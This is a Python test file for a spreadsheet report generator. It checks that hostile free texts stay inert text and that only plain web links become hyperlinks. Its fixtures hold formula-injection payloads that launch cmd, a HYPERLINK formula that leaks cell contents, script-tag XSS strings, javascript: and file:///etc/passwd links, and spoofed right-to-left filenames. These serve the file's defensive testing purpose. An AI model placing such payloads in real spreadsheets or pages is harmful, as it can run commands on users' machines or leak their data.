"""Texts of a workbook come back from the spreadsheet whole and as texts, in openpyxl and in LibreOffice."""

from __future__ import annotations

import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from assessment_making import review
from hypothesis import given
from hypothesis import strategies as st

from gapcheck.assessment import assess
from gapcheck.report.spreadsheet.texts import LONGEST, held, is_risky, is_web
from gapcheck.workbook import read_workbook
from gapcheck.workbook.decisions import Voice

INPUTS = Path(__file__).parents[3] / "inputs"
OFFICE = shutil.which("soffice")
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*2",
    "\t=1+1",
    "=cmd|'/C notepad'!A1",
    "'=1+1",
)
OTHERS = (
    "<b>bold</b> & <script>alert(1)</script> ]]> &amp;",
    "#REF!",
    "#DIV/0!",
    "TRUE",
    "25/2",
    "00123",
    "1e999",
    "right to left \u202e override \u200f mark \u2066 isolate \u2069",
    "x" * 5_000,
    "ក" * 5_000,
    "  leading and trailing  ",
    "line\nline\nline",
    "emoji 👩‍⚖️ and \U0001f4a9",
    "{braces} {0} %s",
)
TEXTS = (*FORMULAS, *OTHERS)


@pytest.fixture(scope="session")
def hostile(made, rules):
    """The spreadsheet of a workbook whose every free text is hostile."""
    submission = read_workbook(INPUTS / "khm-2022.xlsx", rules)
    answers = dict(submission.answers)
    for text, name in zip(TEXTS, list(answers), strict=False):
        evidence = answers[name].evidence
        told = replace(evidence, document=text, link=text, page=text, comment=text, responsible_body=text)
        answers[name] = replace(answers[name], evidence=told)
    voices = [
        Voice(name, text, text, text, text, submission.submitted_on) for text, name in zip(TEXTS, answers, strict=False)
    ]
    said = replace(submission, answers=answers, submitted_by=TEXTS[0], submission=TEXTS[1], transcribed_by=TEXTS[2])
    return made(assess(said, rules, [review(by=TEXTS[0], voices=voices, requests_total="accepted")]), internal=True)


def strings(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_texts_come_back_whole_and_as_texts(hostile):
    rows = hostile.rows("answers")
    by_id = {row["ID"]: row for row in rows}
    for text, name in zip(TEXTS, hostile.assessment.answers, strict=False):
        row = by_id[name.indicator]
        for heading in ("Document", "Link", "Page or article", "Comment", "Responsible body"):
            assert row[heading] == text
        assert text in row["Said by others (counts in no reading)"]
    assert {cell.data_type for cell in strings(hostile.book)} == {"s", "n"}


def test_what_looks_like_a_formula_is_marked_as_text(hostile):
    marked = {cell.value: bool(cell.quotePrefix) for cell in strings(hostile.book) if isinstance(cell.value, str)}
    assert all(marked[text] for text in FORMULAS)
    assert not any(marked[text] for text in OTHERS)


def test_only_links_to_the_web_open_anything(made, rules):
    submission = read_workbook(INPUTS / "khm-2022.xlsx", rules)
    links = ["https://example.org/a?b=1#c", "javascript:alert(1)", "file:///etc/passwd", "https://example.org/a b"]
    answers = dict(submission.answers)
    for link, name in zip(links, list(answers), strict=False):
        answers[name] = replace(answers[name], evidence=replace(answers[name].evidence, link=link))
    sheet = made(assess(replace(submission, answers=answers), rules)).sheet("answers")
    opened = [cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    told = [cell.value for row in sheet.iter_rows() for cell in row if cell.value in links]
    assert opened == links[:1]
    assert sorted(told) == sorted(links)


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not on this machine")
def test_libreoffice_makes_no_formula_and_no_error_of_any_text(hostile, tmp_path):
    (tmp_path / "in").mkdir()
    file = tmp_path / "in" / "report.xlsx"
    file.write_bytes(hostile.data)
    subprocess.run(
        [OFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/home", "--convert-to", "xlsx", "--outdir",
         str(tmp_path), str(file)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
    assert {cell.data_type for cell in strings(book)} == {"s", "n"}
    before = {(cell.parent.title, cell.coordinate): cell.value for cell in strings(hostile.book)}
    after = {(cell.parent.title, cell.coordinate): cell.value for cell in strings(book)}
    assert after == before
    assert len(book.worksheets[0]._charts) == 2


def test_what_xml_forbids_is_left_out_and_a_long_text_is_cut_with_a_mark():
    assert held("a\x00b\x1fc\ud800d\uffffe\r\nf", "") == "abcde\nf"
    assert held("_x0041_ _x41_", "") == "_x005F_x0041_ _x41_"
    cut = held("😀" * 40_000, " (cut)")
    assert cut.endswith("😀 (cut)")
    assert LONGEST - 1 <= len(cut.encode("utf-16-le")) // 2 <= LONGEST


@given(st.text(), st.integers(1, 9_000))
def test_every_text_fits_a_cell_and_a_short_one_is_whole(text, times):
    shown = held(text * times, "…")
    assert len(shown.encode("utf-16-le")) // 2 <= LONGEST
    assert not re.search("[\x00-\x08\x0b-\x1f\ufffe\uffff]", shown)
    if not re.search("[\x00-\x08\x0b-\x1f\ufffe\uffff]", text) and len(text) < 1_000:
        assert held(text, "…").replace("_x005F_", "_") == text.replace("_x005F_", "_")


@given(st.text("=+-@\t'＝ a1", max_size=6))
def test_a_risky_text_is_one_that_begins_a_formula_after_blanks(text):
    assert is_risky(text) == (text.lstrip(" ")[:1] in tuple("=+-@\t'＝"))


@pytest.mark.parametrize(
    ("link", "opens"),
    [
        ("https://example.org", True),
        ("http://example.org:8080/a%20b?c=d#page=2", True),
        ("http://example.org:8080/a%20b?c=d", True),
        ("https://example.org#a#b", False),
        ("https://example.org/a%2", False),
        ("HTTPS://example.org", False),
        ("https://example.org/\u202egnp.exe", False),
        ('https://example.org/"onclick', False),
        ("https://user:word@example.org/", False),
        ("https://" + "a" * 2_000, False),
        ("javascript:alert(1)", False),
        ("mailto:a@example.org", False),
        ("", False),
    ],
)
def test_a_link_opens_only_if_it_is_one_of_the_web(link, opens):
    assert is_web(link) is opens
